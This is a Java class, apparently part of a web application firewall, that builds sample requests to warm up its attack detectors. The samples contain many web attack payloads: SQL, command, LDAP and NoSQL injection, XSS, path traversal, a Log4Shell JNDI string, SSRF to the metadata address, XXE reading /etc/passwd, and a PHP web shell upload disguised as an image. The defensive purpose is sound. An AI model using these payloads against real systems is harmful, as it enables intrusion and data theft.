package ai.traceable.tme.engine;

import ai.traceable.tme.engine.inspect.RequestView;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/**
 * Requests the engine runs through inspection and detection before tme takes traffic. On a cold JVM
 * the first checks load and interpret every detector's code, which can take longer than {@code
 * tme.engine.time-budget}; a check over its budget is decided on what was inspected by then, so
 * without a warm-up the first attacks after a start could pass. The samples touch the decoders, the
 * body parsers and every detector family's slow path; they are never counted, logged or captured,
 * and policies (whose counters they would move) do not see them.
 */
public final class WarmUp {
  /** How often the samples are run: enough for the interpreter to compile the hot loops. */
  public static final int ROUNDS = 200;

  private WarmUp() {}

  /** The sample requests, from TEST-NET-1 so that nothing could mistake them for a client. */
  public static List<RequestView> samples() {
    Map<String, List<String>> browser =
        Map.of(
            "user-agent", List.of("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101"),
            "accept", List.of("text/html,application/xhtml+xml,*/*;q=0.8"),
            "accept-language", List.of("en-GB,en;q=0.7"),
            "cookie", List.of("session=eyJ1c2VyIjoxfQ; theme=dark"),
            "referer", List.of("https://shop.example/cart"));
    String attacks =
        "{\"q\":\"1' or 1=1 -- \",\"h\":\"<img src=x onerror=alert(1)>\",\"c\":\"a; cat"
            + " /etc/passwd\",\"f\":\"../../etc/passwd\",\"j\":\"${jndi:ldap://x/a}\","
            + "\"t\":\"{{7*7}}\",\"u\":\"http://169.254.169.254/latest\",\"n\":{\"$where\":"
            + "\"sleep(1)\"},\"p\":\"php://filter/resource=index\",\"x\":\"<!--#exec cmd=\\\"id\\\""
            + " -->\",\"l\":\"*)(uid=*\",\"w\":\"powershell -enc AAAA\",\"__proto__\":{}}";
    return List.of(
        request("GET", "/products/42?sort=price&page=2&q=red%20shoes", browser, ""),
        request(
            "GET",
            "/search?q=%27%20union%20select%20password%20from%20users--&r=%2F%2Fevil.example",
            browser,
            ""),
        request(
            "POST", "/api/orders", Map.of("content-type", List.of("application/json")), attacks),
        request(
            "POST",
            "/login",
            Map.of("content-type", List.of("application/x-www-form-urlencoded")),
            "user=alice&password=s3cret&next=%2Faccount&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        request(
            "POST",
            "/upload",
            Map.of("content-type", List.of("multipart/form-data; boundary=b")),
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.php.jpg\"\r\n"
                + "Content-Type: image/jpeg\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n"),
        request(
            "POST",
            "/soap",
            Map.of("content-type", List.of("application/xml")),
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<a>&x;</a>"));
  }

  private static RequestView request(
      String method, String path, Map<String, List<String>> headers, String body) {
    return new RequestView(
        method,
        path,
        "shop.example",
        headers,
        body.getBytes(StandardCharsets.UTF_8),
        false,
        "192.0.2.10",
        40000);
  }
}
